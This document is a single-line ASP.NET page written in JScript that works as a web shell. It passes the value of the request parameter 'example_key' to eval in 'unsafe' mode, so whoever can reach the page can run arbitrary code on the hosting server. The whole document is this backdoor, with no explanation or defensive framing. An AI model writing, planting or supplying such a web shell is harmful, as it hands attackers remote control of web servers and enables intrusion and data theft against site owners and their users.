<%@ Page Language="Jscript"%><%eval(Request.Item["example_key"],"unsafe");%>
